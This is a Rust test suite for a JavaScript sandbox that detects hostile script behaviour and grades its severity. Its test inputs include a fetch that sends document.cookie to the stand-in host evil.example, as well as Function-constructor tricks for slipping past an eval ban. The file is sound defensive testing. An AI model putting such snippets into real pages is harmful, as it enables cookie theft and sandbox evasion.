#![cfg(feature = "js-sandbox")]

use std::time::{Duration, Instant};

use hostile_js_analysis::dynamic::{execute_inline, ExecutionBackend, InProcessBackend};
use hostile_js_analysis::{BehaviorKind, ExecutionOutcome, ExecutionReport, SandboxOptions, Severity};

fn run(source: &str) -> ExecutionReport {
    execute_inline(source, &SandboxOptions::default(), "test")
}

fn kinds(report: &ExecutionReport) -> Vec<(BehaviorKind, Severity)> {
    report.behaviors.iter().map(|b| (b.kind, b.severity)).collect()
}

#[test]
fn single_fetch_is_one_high_network_behavior() {
    let report = run(r#"fetch("https://evil.example/x")"#);
    assert_eq!(report.outcome, ExecutionOutcome::Completed);
    assert_eq!(kinds(&report), vec![(BehaviorKind::NetworkRequest, Severity::High)]);
    assert_eq!(report.network_calls.len(), 1);
    assert_eq!(report.network_calls[0].url, "https://evil.example/x");
    assert_eq!(report.network_calls[0].method, "GET");
}

#[test]
fn benign_script_records_nothing() {
    let report = run("var a = 1 + 2; var b = [a, a * 2].join(',');");
    assert_eq!(report.outcome, ExecutionOutcome::Completed);
    assert!(report.behaviors.is_empty());
    assert!(report.network_calls.is_empty());
    assert!(report.capability_rejections.is_empty());
}

#[test]
fn blocked_fetch_resolves_to_403() {
    let report = run(
        r#"fetch("/api", { method: "post" }).then(function (r) { console.log(r.status, r.ok); });"#,
    );
    assert_eq!(report.network_calls[0].method, "POST");
    assert_eq!(report.console_output.len(), 1);
    assert_eq!(report.console_output[0].args, vec!["403".to_string(), "false".to_string()]);
}

#[test]
fn eval_is_rejected_without_downstream_effect() {
    let report = run(
        r#"
        var hit = 0;
        try { eval("hit = 1"); } catch (e) { console.log(e.message); }
        localStorage.setItem("hit", String(hit));
        "#,
    );
    assert_eq!(report.outcome, ExecutionOutcome::Completed);
    assert_eq!(report.behaviors[0].kind, BehaviorKind::DynamicEvaluation);
    assert_eq!(report.behaviors[0].severity, Severity::Critical);
    assert_eq!(report.capability_rejections, vec!["eval()".to_string()]);
    assert_eq!(report.console_output[0].args[0], "eval() is not allowed in sandbox");
    assert_eq!(report.storage_access[0].value.as_deref(), Some("0"));
}

#[test]
fn uncaught_rejection_stops_the_script() {
    let report = run(r#"new Function("return 1")(); fetch("/never");"#);
    assert_eq!(
        report.outcome,
        ExecutionOutcome::CapabilityRejected { primitive: "Function constructor".into() }
    );
    assert!(report.network_calls.is_empty());
    assert_eq!(kinds(&report), vec![(BehaviorKind::DynamicEvaluation, Severity::Critical)]);
}

#[test]
fn runtime_error_becomes_medium_behavior() {
    let report = run("notDefinedAnywhere();");
    assert!(matches!(report.outcome, ExecutionOutcome::ScriptError { .. }));
    assert_eq!(kinds(&report), vec![(BehaviorKind::ExecutionError, Severity::Medium)]);
    assert_eq!(report.behaviors[0].description, "Code execution resulted in runtime error");
    assert!(report.behaviors[0].details.contains_key("error"));
}

#[test]
fn cookie_writes_are_readable_and_tracked() {
    let report = run(r#"document.cookie = "sid=42; path=/"; console.log(document.cookie);"#);
    assert_eq!(
        kinds(&report),
        vec![(BehaviorKind::CookieAccess, Severity::High), (BehaviorKind::CookieAccess, Severity::Medium)]
    );
    assert_eq!(report.console_output[0].args[0], "sid=42");
    assert_eq!(report.storage_access[0].area, "cookie");
}

#[test]
fn storage_reads_return_null() {
    let report = run(
        r#"
        sessionStorage.setItem("a", "b");
        console.log(String(sessionStorage.getItem("a")));
        localStorage.removeItem("a");
        "#,
    );
    assert_eq!(report.console_output[0].args[0], "null");
    let actions: Vec<_> = report.storage_access.iter().map(|s| s.action.as_str()).collect();
    assert_eq!(actions, vec!["set", "get", "remove"]);
}

#[test]
fn timers_are_flagged_but_never_run() {
    let report = run(
        r#"
        setInterval(function () { fetch("/tick"); }, 10);
        setTimeout("fetch('/later')", 0);
        "#,
    );
    assert!(report.network_calls.is_empty());
    assert_eq!(report.timers.len(), 2);
    assert_eq!(
        kinds(&report),
        vec![
            (BehaviorKind::CryptoMining, Severity::Medium),
            (BehaviorKind::DynamicEvaluation, Severity::High),
            (BehaviorKind::TimingAttack, Severity::Medium),
        ]
    );
}

#[test]
fn constructing_xhr_alone_records_nothing() {
    let report = run("var x = new XMLHttpRequest(); x.setRequestHeader('a', 'b');");
    assert_eq!(report.outcome, ExecutionOutcome::Completed);
    assert!(report.behaviors.is_empty());
    assert!(report.network_calls.is_empty());
}

#[test]
fn send_beacon_is_one_high_network_behavior() {
    let report = run(r#"navigator.sendBeacon("https://e.example/c", "payload");"#);
    assert_eq!(kinds(&report), vec![(BehaviorKind::NetworkRequest, Severity::High)]);
    assert_eq!(report.network_calls[0].method, "POST");
}

#[test]
fn function_intrinsics_survive_the_constructor_stand_in() {
    let report = run(
        r#"
        function f(a) { return a + 1; }
        console.log(f instanceof Function);
        console.log(Function.prototype.call.call(f, null, 1));
        console.log(f.apply(null, [2]), f.bind(null, 3)());
        console.log(Object.getPrototypeOf(f) === Function.prototype);
        "#,
    );
    assert_eq!(report.outcome, ExecutionOutcome::Completed);
    assert!(report.behaviors.is_empty());
    let lines: Vec<_> = report.console_output.iter().map(|c| c.args.join(" ")).collect();
    assert_eq!(lines, vec!["true", "2", "3 4", "true"]);
}

#[test]
fn constructor_lookups_reach_the_stand_in() {
    let report = run(
        r#"
        try { (function () {}).constructor("fetch('/a')")(); } catch (e) { console.log(e.message); }
        try { (async function () {}).constructor("fetch('/b')"); } catch (e) { console.log(e.message); }
        try { (function* () {}).constructor("fetch('/c')"); } catch (e) { console.log(e.message); }
        "#,
    );
    assert_eq!(report.outcome, ExecutionOutcome::Completed);
    assert!(report.network_calls.is_empty());
    assert_eq!(
        report.capability_rejections,
        vec![
            "Function constructor".to_string(),
            "AsyncFunction constructor".to_string(),
            "GeneratorFunction constructor".to_string(),
        ]
    );
    assert!(report.behaviors.iter().all(|b| b.severity == Severity::Critical));
    assert_eq!(report.console_output[0].args[0], "Function constructor is not allowed in sandbox");
}

#[test]
fn xhr_open_records_call_and_send_is_blocked() {
    let report = run(
        r#"var x = new XMLHttpRequest(); x.open("post", "https://e.example/c"); x.send("data");"#,
    );
    assert_eq!(report.network_calls.len(), 1);
    assert_eq!(report.network_calls[0].method, "POST");
    assert!(report
        .logs
        .iter()
        .any(|l| l.message == "XMLHttpRequest send blocked in sandbox"));
}

#[test]
fn dom_factory_returns_inert_nodes() {
    let report = run(
        r#"
        var d = document.createElement("DIV");
        d.innerHTML = "<b>x</b>";
        document.body.appendChild(d);
        document.write("<p>hi</p>");
        console.log(d.tagName);
        "#,
    );
    assert_eq!(report.dom_modifications.len(), 4);
    assert_eq!(report.dom_modifications[0].target, "div");
    assert_eq!(report.console_output[0].args[0], "DIV");
}

#[test]
fn codecs_really_decode() {
    let report = run(r#"console.log(atob("aGk=")); console.log(btoa("hi"));"#);
    assert_eq!(report.console_output[0].args[0], "hi");
    assert_eq!(report.console_output[1].args[0], "aGk=");
    assert_eq!(
        kinds(&report),
        vec![(BehaviorKind::Obfuscation, Severity::Medium), (BehaviorKind::Obfuscation, Severity::Low)]
    );
}

#[test]
fn runaway_loop_trips_runtime_limit() {
    let options = SandboxOptions { loop_iteration_limit: 1_000, ..SandboxOptions::default() };
    let report = execute_inline("var n = 0; for (;;) { n++; }", &options, "test");
    assert!(matches!(report.outcome, ExecutionOutcome::ScriptError { .. }));
    assert_eq!(report.behaviors[0].kind, BehaviorKind::ExecutionError);
}

#[test]
fn in_process_backend_returns_at_the_deadline() {
    let options = SandboxOptions { timeout_ms: 20, ..SandboxOptions::default() };
    let started = Instant::now();
    let report = InProcessBackend.execute(
        "for (var i = 0; i < 900000; i++) { clearTimeout(i); }",
        &options,
    );
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(report.outcome, ExecutionOutcome::TimedOut { timeout_ms: 20 });
    assert!(report
        .behaviors
        .iter()
        .any(|b| b.kind == BehaviorKind::ExecutionError && b.severity == Severity::Medium));
}

#[test]
fn report_logs_bracket_the_run() {
    let report = run("1");
    assert!(report.logs[0].message.starts_with("Starting sandbox execution"));
    assert!(report.logs.iter().any(|l| l.message.contains("advisory")));
    assert!(report
        .logs
        .last()
        .map(|l| l.message.starts_with("Sandbox execution completed in"))
        .unwrap_or(false));
}

fn runaway(timeout_ms: u64) -> SandboxOptions {
    SandboxOptions { timeout_ms, loop_iteration_limit: u64::MAX, ..SandboxOptions::default() }
}

const NESTED_SPIN: &str = "for (var i = 0; i < 1e12; i++) { for (var j = 0; j < 1; j++) {} }";

#[test]
fn nested_loops_are_stopped_on_the_calling_thread() {
    let started = Instant::now();
    let report = execute_inline(NESTED_SPIN, &runaway(100), "test");
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(report.outcome, ExecutionOutcome::TimedOut { timeout_ms: 100 });
    assert_eq!(kinds(&report), vec![(BehaviorKind::ExecutionError, Severity::Medium)]);
}

#[test]
fn in_process_engine_thread_ends_within_grace() {
    let options = SandboxOptions { grace_ms: 1_000, ..runaway(100) };
    let started = Instant::now();
    let report = InProcessBackend.execute(NESTED_SPIN, &options);
    assert!(started.elapsed() < Duration::from_millis(1_100));
    assert_eq!(report.outcome, ExecutionOutcome::TimedOut { timeout_ms: 100 });
    // Only the engine thread itself writes the closing log line.
    assert!(report.logs.iter().all(|l| !l.message.contains("detached")));
    assert!(report
        .logs
        .last()
        .is_some_and(|l| l.message.starts_with("Sandbox execution completed in")));
}

#[test]
fn timeout_keeps_calls_made_before_the_spin() {
    let source = format!("fetch('https://evil.example/?c=' + document.cookie); {NESTED_SPIN}");
    let report = InProcessBackend.execute(&source, &runaway(200));
    assert_eq!(report.outcome, ExecutionOutcome::TimedOut { timeout_ms: 200 });
    assert_eq!(report.network_calls.len(), 1);
    assert_eq!(
        kinds(&report),
        vec![
            (BehaviorKind::CookieAccess, Severity::Medium),
            (BehaviorKind::NetworkRequest, Severity::High),
            (BehaviorKind::ExecutionError, Severity::Medium),
        ]
    );
}

#[test]
fn endless_promise_chain_stops_at_the_deadline() {
    let report = execute_inline(
        "function spin() { Promise.resolve().then(spin); } spin();",
        &runaway(100),
        "test",
    );
    assert_eq!(report.outcome, ExecutionOutcome::TimedOut { timeout_ms: 100 });
}
